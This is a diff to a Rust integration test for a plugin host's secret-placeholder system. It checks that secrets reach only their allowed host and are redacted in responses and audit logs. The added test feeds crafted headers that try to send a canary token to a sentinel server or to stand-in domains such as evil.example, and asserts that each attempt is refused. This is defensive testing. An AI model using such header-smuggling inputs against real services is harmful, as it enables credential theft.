@@ -50,7 +50,8 @@ impl World {
         let manifest = fs::read_to_string(fixture(NAME).join("plugin.yaml")).unwrap();
         let more = format!(
             "optional_permissions: [network_access, api_access]\naccess: {{ api_access: [chat] }}\nconfig_schema:\n  \
-             api_key: {{ type: string, secret: {{ hosts: ['allowed.test:{}'], deliver: false }} }}\n",
+             api_key: {{ type: string, secret: {{ hosts: ['allowed.test:{0}'], deliver: false, header: X-Key }} }}\n  \
+             token: {{ type: string, secret: {{ hosts: ['allowed.test:{0}'], deliver: false }} }}\n",
             allowed.port
         );
         let archive = pack_folder(&fixture(NAME), &[("plugin.yaml", &format!("{manifest}{more}"))]);
@@ -207,9 +208,9 @@ async fn a_secret_is_sent_and_seen_nowhere() {
     assert_eq!(unset["data"]["code"], "secret", "{unset}");
     world.configure(&json!({"api_key": CANARY})).await;
 
-    let answer = world.ask("http.fetch", with(world.url("/echo"), "key {{secret:api_key}}")).await;
-    assert!(answer["text"].as_str().unwrap().contains("x-key: key [redacted]"), "{answer}");
-    assert!(world.allowed.requests_in_full()[0].contains(&format!("x-key: key {CANARY}\r\n")));
+    let answer = world.ask("http.fetch", with(world.url("/echo"), "Token {{secret:api_key}}")).await;
+    assert!(answer["text"].as_str().unwrap().contains("x-key: Token [redacted]"), "{answer}");
+    assert!(world.allowed.requests_in_full()[0].contains(&format!("x-key: Token {CANARY}\r\n")));
     let elsewhere = format!("https://second.test:{}/", world.sentinel.port);
     let refused = world.ask("http.fetch", with(elsewhere.clone(), "{{secret:api_key}}")).await;
     assert!(refused["text"].as_str().unwrap().contains("is not for `second.test"), "{refused}");
@@ -222,6 +223,32 @@ async fn a_secret_is_sent_and_seen_nowhere() {
         let failed = world.ask("http.fetch", with(format!("https://allowed.test:{port}/"), "{{secret:api_key}}")).await;
         assert!(failed["code"].as_i64().is_some(), "{failed}");
     }
+    everything_is_clean(world).await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_honest_host_hands_no_secret_on() {
+    let Some(world) = World::start().await else { return };
+    let elsewhere = format!("second.test:{}", world.sentinel.port);
+    let rules = json!([format!("allowed.test:{}", world.allowed.port), elsewhere, format!("http://{elsewhere}")]);
+    world.decide(&json!({"grant": [{"permission": "network_access", "scope": rules}]})).await;
+    world.configure(&json!({"token": CANARY})).await;
+    for (path, name, value) in [
+        ("/to/https://@x-forwarded-host@/dir/", "X-Forwarded-Host", format!("{elsewhere}/{{{{secret:token}}}}")),
+        ("/to/https://@x-forwarded-host@/dir/", "X-Forwarded-Host", "{{secret:token}}.evil.example".to_owned()),
+        ("/to/https://@authorization@.evil.example/", "Authorization", "{{secret:token}}".to_owned()),
+        ("/to/https://second.test/?from=@authorization@", "Authorization", "{{secret:token}}".to_owned()),
+        ("/to/http:// x@authorization@", "Authorization", "Bearer {{secret:token}}".to_owned()),
+        ("/to/https://second.test:1/@x-trace@", "X-Trace", format!("{}{{{{secret:token}}}}", "A".repeat(40))),
+    ] {
+        let url = world.url(&path.replace(' ', "%20"));
+        let answer = world.ask("http.fetch", json!({"url": url, "headers": { name: value }})).await;
+        assert!(!answer.to_string().to_lowercase().contains("canary"), "{name}: {value}: {answer}");
+        assert_eq!(answer["data"]["code"], "secret", "{name}: {value}: {answer}");
+    }
+    assert_eq!(world.sentinel.requests_in_full(), Vec::<String>::new(), "the secret left");
+    let audited = world.audited("host.refused").await;
+    assert!(!audited.is_empty() && !json!(audited).to_string().to_lowercase().contains("canary"), "{audited:?}");
     everything_is_clean(world).await;
 }
 
